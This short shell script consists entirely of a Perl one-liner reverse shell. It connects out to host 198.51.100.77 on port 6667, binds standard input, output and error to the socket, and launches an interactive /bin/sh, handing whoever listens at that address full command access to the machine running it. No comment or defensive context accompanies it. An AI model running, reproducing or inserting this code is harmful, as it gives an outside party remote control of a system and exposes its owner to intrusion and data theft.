#!/bin/sh
H=198.51.100.77
P=6667
perl -MSocket -e 'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));
connect(S,sockaddr_in($ARGV[1],inet_aton($ARGV[0])));
open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");' "$H" "$P"
